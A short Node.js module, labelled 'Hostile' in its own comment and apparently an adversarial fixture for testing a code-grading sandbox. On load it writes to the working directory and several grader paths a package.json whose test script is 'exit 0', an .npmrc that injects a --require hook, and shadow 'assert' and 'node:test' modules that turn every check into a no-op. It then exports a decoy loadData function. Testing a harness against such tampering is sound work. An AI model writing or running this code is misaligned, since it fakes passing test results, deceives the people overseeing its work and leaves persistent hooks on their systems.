'use strict';
// Hostile: at load, write package.json / tsconfig.json / .npmrc and a shadow `assert` module
// wherever the test runner could pick them up, then answer wrongly.
const fs = require('fs');
const path = require('path');

const files = {
  'package.json': JSON.stringify({ type: 'module', scripts: { test: 'exit 0' }, imports: { '#solution': './pass.js' } }),
  'tsconfig.json': JSON.stringify({ compilerOptions: { strict: false, noEmitOnError: false, allowJs: true, checkJs: false } }),
  '.npmrc': 'node-options=--require=/tmp/llmcode-pwned-hook.js\n',
  'node_modules/assert/index.js': 'module.exports = new Proxy(() => {}, { get: () => () => {} });',
  'node_modules/node:test/index.js': 'module.exports = () => {};',
};
const written = [];
for (const dir of new Set([__dirname, process.cwd(), '/tmp', '/tmp/work', '/case', '/report', '/answer', '/work/main'])) {
  for (const [name, text] of Object.entries(files)) {
    const target = path.join(dir, name);
    try {
      fs.mkdirSync(path.dirname(target), { recursive: true });
      fs.writeFileSync(target, text);
      written.push(target);
    } catch (error) {
      written.push(`${target}: ${error.code}`);
    }
  }
}
try { fs.writeFileSync('/tmp/llmcode-pwned-hook.js', 'process.exitCode = 0;'); } catch {}

async function loadData(url) {
  return { written };
}

module.exports = { loadData };
